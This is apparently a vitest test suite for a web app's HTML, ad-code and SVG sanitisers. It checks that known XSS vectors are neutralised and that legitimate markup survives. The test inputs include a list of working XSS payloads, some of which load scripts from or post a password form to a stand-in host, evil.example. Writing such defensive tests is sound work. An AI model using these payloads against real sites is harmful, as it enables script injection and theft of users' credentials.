// The allow-list sanitiser: known XSS vectors never survive, the editor's own markup does, and a second
// pass changes nothing (the CSV round trip relies on that).
import { describe, expect, it } from 'vitest';
// @ts-expect-error jsdom ships no type declarations (and @types/jsdom is not needed for this one call)
import { JSDOM } from 'jsdom';
import { looksLikeSvg, sanitizeAdCode, sanitizeRichHtml, sanitizeSvg } from './sanitize.ts';
import svgVectors from '../objects/svg-xss-vectors.json';

/** Elements that run script, embed documents, or change other elements' attributes (animation). */
const RUNS_OR_LOADS = new Set([
  'script',
  'foreignobject',
  'iframe',
  'embed',
  'object',
  'handler',
  'listener',
  'animate',
  'set',
  'use',
  'discard',
]);

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="//evil.example/pixel.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<div onmouseover="alert(1)">x</div>',
  '<body onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<base href="https://evil.example/">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
];

/** Any way to run script, load an active resource or submit a form that could be left in HTML. */
function assertInert(html: string) {
  // Attribute values are always quoted and entity-encoded on output, so text inside them is inert.
  const tags = html.replace(/"[^"]*"/g, '""');
  expect(tags).not.toMatch(
    /<(script|iframe|object|embed|form|input|meta|link|style|base|svg|math|template|noscript|body)\b/i,
  );
  expect(tags).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(href|src|action|data|srcset)="\s*(javascript|vbscript|data):/i);
  expect(html).not.toMatch(/(src|href)="\/\//i); // protocol-relative: another site
  expect(html).not.toMatch(/url\(/i);
  expect(html).not.toMatch(/rel="opener"/);
}

describe('sanitizeRichHtml', () => {
  it.each(VECTORS)('neutralises %s', (vector) => {
    assertInert(sanitizeRichHtml(vector));
    assertInert(sanitizeRichHtml(`<p>before</p>${vector}<p>after</p>`));
  });

  it("keeps the editor's markup: headings, lists, marks, code, links, images (incl. uploads)", () => {
    const html =
      '<h2>Title</h2><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>' +
      '<ul><li><p>one</p></li></ul><ol start="3"><li>two</li></ol><blockquote><p>q</p></blockquote>' +
      '<pre><code class="language-js">let a = 1 &lt; 2;</code></pre><hr />' +
      '<p><a href="https://example.com">link</a> <a href="mailto:a@example.com">mail</a></p>' +
      '<img src="/objects/6f1c2a7e-9a43-4b8e-bb0e-2b1f6f0e8c11" alt="logo" /><img src="https://cdn.example/x.png" alt="" />';
    expect(sanitizeRichHtml(html)).toBe(html);
  });

  it('adds noopener to links that open a new tab', () => {
    expect(sanitizeRichHtml('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('is idempotent (a second pass changes nothing)', () => {
    for (const input of [...VECTORS, '<p>a &amp; b "c" \'d\' &lt;e&gt; &nbsp; ü</p>', 'plain text & more']) {
      const once = sanitizeRichHtml(input);
      expect(sanitizeRichHtml(once)).toBe(once);
    }
  });
});

describe('sanitizeAdCode', () => {
  it.each(VECTORS.filter((v) => !v.startsWith('<iframe src="https')))('neutralises %s', (vector) => {
    assertInert(sanitizeAdCode(vector).replace(/<iframe><\/iframe>/g, ''));
  });

  it('keeps AdSense-style slots and https iframes, without their scripts', () => {
    const code =
      '<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js"></script>' +
      '<ins class="adsbygoogle" style="display:inline-block;width:728px;height:90px" data-ad-client="ca-pub-1" data-ad-slot="2"></ins>' +
      '<script>(adsbygoogle = window.adsbygoogle || []).push({});</script>' +
      '<iframe src="https://ads.example/slot" width="300" height="250" onload="alert(1)"></iframe>';
    expect(sanitizeAdCode(code)).toBe(
      '<ins class="adsbygoogle" style="display:inline-block;width:728px;height:90px" data-ad-client="ca-pub-1" data-ad-slot="2"></ins>' +
        '<iframe src="https://ads.example/slot" width="300" height="250"></iframe>',
    );
  });

  it('drops iframes that are not https and styles that load anything', () => {
    expect(sanitizeAdCode('<iframe src="http://ads.example"></iframe><iframe src="/api/admin/ads"></iframe>')).toBe(
      '<iframe></iframe><iframe></iframe>',
    );
    expect(sanitizeAdCode('<div style="width:10px;background:url(https://t.example/p.gif)">x</div>')).toBe(
      '<div style="width:10px">x</div>',
    );
  });
});

describe('SVG', () => {
  it('recognises SVG documents by their root, not by anything else', () => {
    const yes = [
      '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
      '\uFEFF<?xml version="1.0"?>\n<!-- logo -->\n<!DOCTYPE svg [ <!ENTITY x "y"> ]>\n<svg>',
      '  <svg\nviewBox="0 0 1 1"/>',
    ];
    const no = ['<html><svg></svg></html>', 'hello <svg>', '<?xml version="1.0"?><rss/>', '<svgfoo>'];
    for (const s of yes) expect(looksLikeSvg(Buffer.from(s))).toBe(true);
    for (const s of no) expect(looksLikeSvg(Buffer.from(s))).toBe(false);
    expect(looksLikeSvg(Buffer.from([0x3c, 0x73, 0x76, 0x67, 0x20, 0xff, 0xfe]))).toBe(false); // not UTF-8
  });

  it('keeps shapes, gradients, styles and internal references', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>.a{fill:red}</style>' +
      '<defs><linearGradient id="g" gradientTransform="rotate(90)"><stop offset="0" stop-color="red"/></linearGradient></defs>' +
      '<g transform="scale(2)"><path class="a" d="M0 0L5 5Z" fill="url(#g)"/></g><text x="1" y="9">A &amp; B</text></svg>';
    expect(await sanitizeSvg(svg)).toBe(svg);
  });

  it('removes scripts, handlers, foreignObject, animation, <use> and external references', async () => {
    const clean = await sanitizeSvg(
      '<svg onload="alert(1)"><script>alert(2)</script><foreignObject><p>hi</p></foreignObject>' +
        '<animate attributeName="href" values="javascript:alert(3)"/><use xlink:href="data:image/svg+xml,<svg onload=alert(4)>"/>' +
        '<image href="data:image/png;base64,iVBORw0KGgo="/><a href="https://evil.example"><rect/></a><a href="#top"><rect/></a></svg>',
    );
    expect(clean).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,iVBORw0KGgo="/><a><rect/></a>' +
        '<a href="#top"><rect/></a></svg>',
    );
  });

  it('writes style text escaped, however it was encoded (the markup in it stays text)', async () => {
    const issue =
      '<svg xmlns="http://www.w3.org/2000/svg"><style>&lt;/style&gt;&lt;script&gt;document.title="XSS"&lt;/script&gt;&lt;style&gt;</style></svg>';
    expect(await sanitizeSvg(issue)).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg"><style>&lt;/style&gt;&lt;script&gt;document.title="XSS"&lt;/script&gt;&lt;style&gt;</style></svg>',
    );
  });

  it('returns undefined when nothing with an <svg> root is left', async () => {
    expect(await sanitizeSvg('<script>alert(1)</script>')).toBeUndefined();
    expect(await sanitizeSvg('<svg></svg><svg></svg>')).toBeUndefined();
  });

  // Each vector of the corpus, cleaned, must be nothing or an SVG document that runs and loads nothing.
  const corpus = Object.entries(svgVectors).flatMap(([source, list]) =>
    Array.isArray(list) ? list.map((vector) => [source, vector] as const) : [],
  );
  it.each(corpus)('%s vector %# leaves nothing that runs or loads', async (_source, vector) => {
    const clean = await sanitizeSvg(vector);
    if (clean === undefined) return;
    const doc = new JSDOM(clean, { contentType: 'image/svg+xml' }).window.document;
    expect(doc.documentElement.localName).toBe('svg');
    expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
    for (const element of doc.getElementsByTagName('*')) {
      expect(RUNS_OR_LOADS.has(element.localName.toLowerCase()), element.localName).toBe(false);
      for (const attribute of element.attributes) {
        expect(attribute.name.toLowerCase().startsWith('on'), attribute.name).toBe(false);
        expect(attribute.value).not.toMatch(/javascript:|vbscript:/i);
        if (attribute.localName === 'href') {
          const embeddedImage = element.localName === 'image' && attribute.value.startsWith('data:image/');
          expect(attribute.value.startsWith('#') || embeddedImage, attribute.value).toBe(true);
        }
      }
    }
    expect(clean).not.toMatch(/<script|<!ENTITY|<!DOCTYPE/i);
  });
});
